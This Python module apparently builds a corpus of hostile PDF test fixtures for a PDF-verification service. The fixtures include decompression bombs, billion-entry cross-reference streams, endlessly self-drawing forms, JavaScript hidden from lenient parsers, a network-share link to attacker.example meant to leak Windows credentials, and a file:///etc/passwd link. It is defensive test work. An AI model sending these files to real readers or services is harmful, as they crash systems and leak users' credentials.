"""A corpus of hostile PDFs, built here byte by byte (no binary fixtures).

Each builder returns the bytes of a small file that attacks one weakness of PDF readers:
declared sizes that make a parser allocate or loop, drawings that draw themselves,
decompression bombs, page boxes no screen can show, and active content hidden from a
lenient parse. ``CORPUS`` names them all; the tests push every one through upload, the
verify page, the ``verify-pdf`` command and signer attachments.
"""

from __future__ import annotations

import functools
import io
import zlib
from collections.abc import Callable

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from reportlab.pdfgen import canvas


def build(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A classic PDF: objects numbered from 1, a cross-reference table and a trailer."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, root, trailer_extra, xref)
    )
    return out.getvalue()


def stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n" % (dictionary, len(data)) + data + b"\nendstream"


def _page_objects(
    content: bytes = b"BT /F1 12 Tf 72 720 Td (Hello) Tj ET",
    resources: bytes = b"<< /Font << /F1 4 0 R >> >>",
    media_box: bytes = b"[0 0 612 792]",
    catalog_extra: bytes = b"",
    page_extra: bytes = b"",
) -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents 5 0 R %s>>"
        % (media_box, resources, page_extra),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        stream(b"", content),
    ]


def one_page(**kwargs: bytes) -> bytes:
    """A well-formed one-page PDF, with optional changes."""
    return build(_page_objects(**kwargs))


# ------------------------------------------------------------------ declared sizes


def _xref_stream_file(dictionary: bytes, entries: bytes) -> bytes:
    """A catalog and a cross-reference stream with ``dictionary`` and ``entries``."""
    head = b"%PDF-1.7\n"
    body = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    xref = stream(b"/Type /XRef /Root 1 0 R " + dictionary, entries)
    text = head + body + b"3 0 obj\n" + xref + b"\nendobj\n"
    return text + b"startxref\n%d\n%%%%EOF\n" % (len(head) + len(body))


def xref_stream_huge_size() -> bytes:
    """A cross-reference stream that declares a billion objects (a reader may allocate or
    walk them all)."""
    entries = b"\x00\x00\x00\x00" + b"\x01" + (9).to_bytes(2, "big") + b"\x00"
    return _xref_stream_file(
        b"/Size 999999999 /W [1 2 1] /Filter /FlateDecode", zlib.compress(entries)
    )


def xref_stream_huge_index() -> bytes:
    """A cross-reference stream whose /Index names a billion-entry subsection."""
    return _xref_stream_file(b"/Size 4 /Index [0 2000000000] /W [1 4 2]", b"\x01" * 70)


def slow_xref_stream(size: int = 900_000) -> bytes:
    """A cross-reference stream declaring 900,000 entries: under any cap on declared sizes,
    yet seconds of work for a reader that walks them (the verify page's slow case)."""
    return _xref_stream_file(b"/Size %d /Index [0 %d] /W [1 4 2]" % (size, size), b"\x01" * 70)


def huge_signature_contents(megabytes: int = 24) -> bytes:
    """A signature field whose /Contents is a hex string of ``megabytes`` MB."""
    contents = b"<" + b"30" * (megabytes * 1024 * 1024 // 2) + b">"
    objects = _page_objects(catalog_extra=b"/AcroForm << /Fields [6 0 R] /SigFlags 3 >>")
    objects.append(
        b"<< /FT /Sig /T (Seal) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P 3 0 R /V 7 0 R >>"
    )
    objects.append(
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
        b"/ByteRange [0 10 20 30] /Contents " + contents + b" >>"
    )
    return build(objects)


def huge_image_dimensions() -> bytes:
    """An image that declares 200,000 x 200,000 pixels from a few bytes of data."""
    image = stream(
        b"/Type /XObject /Subtype /Image /Width 200000 /Height 200000 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /FlateDecode",
        zlib.compress(b"\x00" * 1024),
    )
    objects = _page_objects(
        content=b"q 612 0 0 792 0 0 cm /Im0 Do Q",
        resources=b"<< /XObject << /Im0 6 0 R >> >>",
    )
    objects.append(image)
    return build(objects)


def deep_arrays(depth: int = 100_000) -> bytes:
    """Arrays nested a hundred thousand deep (a recursive parser runs out of stack)."""
    return one_page(page_extra=b"/Junk " + b"[" * depth + b"]" * depth + b" ")


# ------------------------------------------------------------------ endless drawing


def self_drawing_form() -> bytes:
    """A form XObject whose content draws the form itself (rendering never ends)."""
    form = stream(
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
        b"/Resources << /XObject << /Fm0 6 0 R >> >>",
        b"q 0.9 0 0 0.9 10 10 cm /Fm0 Do Q /Fm0 Do",
    )
    objects = _page_objects(content=b"/Fm0 Do", resources=b"<< /XObject << /Fm0 6 0 R >> >>")
    objects.append(form)
    return build(objects)


def mutually_drawing_forms() -> bytes:
    """Two form XObjects that draw each other."""
    form_a = stream(
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
        b"/Resources << /XObject << /B 7 0 R >> >>",
        b"/B Do /B Do",
    )
    form_b = stream(
        b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] "
        b"/Resources << /XObject << /A 6 0 R >> >>",
        b"/A Do /A Do",
    )
    objects = _page_objects(content=b"/A Do", resources=b"<< /XObject << /A 6 0 R >> >>")
    objects += [form_a, form_b]
    return build(objects)


# ------------------------------------------------------------------ decompression bombs


@functools.cache
def _zeros_deflated(megabytes: int) -> bytes:
    squeeze = zlib.compressobj(9)
    chunk = b"\x00" * (1024 * 1024)
    parts = [squeeze.compress(chunk) for _ in range(megabytes)]
    parts.append(squeeze.flush())
    return b"".join(parts)


def metadata_flate_bomb(megabytes: int = 1024) -> bytes:
    """A /Metadata stream Flate-encoded twice: a few KB that inflate to a gigabyte."""
    twice = zlib.compress(_zeros_deflated(megabytes), 9)
    objects = _page_objects(catalog_extra=b"/Metadata 6 0 R ")
    objects.append(
        stream(b"/Type /Metadata /Subtype /XML /Filter [/FlateDecode /FlateDecode]", twice)
    )
    return build(objects)


def content_flate_bomb(megabytes: int = 1024) -> bytes:
    """A page content stream of a gigabyte of zeros, Flate-encoded twice."""
    twice = zlib.compress(_zeros_deflated(megabytes), 9)
    objects = _page_objects()
    objects[4] = stream(b"/Filter [/FlateDecode /FlateDecode]", twice)
    return build(objects)


# ------------------------------------------------------------------ page boxes


def giant_thin_page() -> bytes:
    """A page a billion points wide and one point high."""
    return one_page(media_box=b"[0 0 1000000000 1]")


def giant_page() -> bytes:
    """A page ten million points square."""
    return one_page(media_box=b"[0 0 10000000 10000000]")


def poster_noise_pages(count: int = 200) -> bytes:
    """Many poster-size pages (A0, 2384 x 3370 pt) covered in noise; small file, heavy
    page images."""
    import random

    rng = random.Random(7)
    noise = bytes(rng.getrandbits(8) for _ in range(96 * 96 * 3))
    image = stream(
        b"/Type /XObject /Subtype /Image /Width 96 /Height 96 /ColorSpace /DeviceRGB "
        b"/BitsPerComponent 8 /Filter /FlateDecode",
        zlib.compress(noise),
    )
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
        image,
    ]
    content_number = 4 + count
    for _ in range(count):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 2384 3370] "
            b"/Resources << /XObject << /Im0 3 0 R >> >> /Contents %d 0 R >>" % content_number
        )
    objects.append(stream(b"", b"q 2384 0 0 3370 0 0 cm /Im0 Do Q"))
    return build(objects)


# ------------------------------------------------------------------ hidden active content


def javascript_behind_deep_nesting(depth: int = 600) -> bytes:
    """An /OpenAction whose first key is a dictionary nested ``depth`` deep, then
    /S /JavaScript: a lenient parse gives up on the nesting and never sees the script."""
    nested = b"<< /A " * depth + b"1" + b" >>" * depth
    action = b"<< /Z " + nested + b" /S /JavaScript /JS (app.alert\\(1\\)) >>"
    return one_page(catalog_extra=b"/OpenAction " + action + b" ")


def javascript_with_escaped_name() -> bytes:
    """/S /J#61vaScript: the name written with a hex escape."""
    return one_page(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ")


def _link(action: bytes) -> bytes:
    """One page with one link annotation whose action is ``action``."""
    annot = b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A " + action + b" >>"
    return one_page(page_extra=b"/Annots [" + annot + b"] ")


def gotor_unc_link() -> bytes:
    """A link that opens a file on a network share (leaks the reader's Windows credentials)."""
    return _link(b"<< /S /GoToR /F (\\\\attacker.example\\share\\x.pdf) /D [0 /Fit] >>")


def javascript_uri_link() -> bytes:
    """A URI action with a javascript: address."""
    return _link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")


def file_uri_link() -> bytes:
    """A URI action to a file: address."""
    return _link(b"<< /S /URI /URI (file:///etc/passwd) >>")


def javascript_in_object_stream() -> bytes:
    """JavaScript in an /OpenAction that lives in a compressed object stream."""
    out = io.BytesIO()
    c = canvas.Canvas(out)
    c.drawString(72, 720, "Hello")
    c.showPage()
    c.save()
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(out.getvalue())))
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    writer._root_object[NameObject("/Junk")] = ArrayObject([])
    writer.compress_identical_objects()
    result = io.BytesIO()
    writer.write(result)
    data = result.getvalue()
    try:  # qpdf packs every object into object streams, if it is installed
        import subprocess

        done = subprocess.run(
            ["qpdf", "--object-streams=generate", "--compress-streams=y", "-", "-"],
            input=data,
            capture_output=True,
            timeout=20,
            check=False,
        )
        if done.returncode in (0, 3) and done.stdout:
            return done.stdout
    except FileNotFoundError:
        pass
    return data


CORPUS: dict[str, Callable[[], bytes]] = {
    "xref_stream_huge_size": xref_stream_huge_size,
    "xref_stream_huge_index": xref_stream_huge_index,
    "slow_xref_stream": slow_xref_stream,
    "huge_signature_contents": huge_signature_contents,
    "huge_image_dimensions": huge_image_dimensions,
    "deep_arrays": deep_arrays,
    "self_drawing_form": self_drawing_form,
    "mutually_drawing_forms": mutually_drawing_forms,
    "metadata_flate_bomb": metadata_flate_bomb,
    "content_flate_bomb": content_flate_bomb,
    "giant_thin_page": giant_thin_page,
    "giant_page": giant_page,
    "poster_noise_pages": poster_noise_pages,
    "javascript_behind_deep_nesting": javascript_behind_deep_nesting,
    "javascript_with_escaped_name": javascript_with_escaped_name,
    "gotor_unc_link": gotor_unc_link,
    "javascript_uri_link": javascript_uri_link,
    "file_uri_link": file_uri_link,
    "javascript_in_object_stream": javascript_in_object_stream,
}
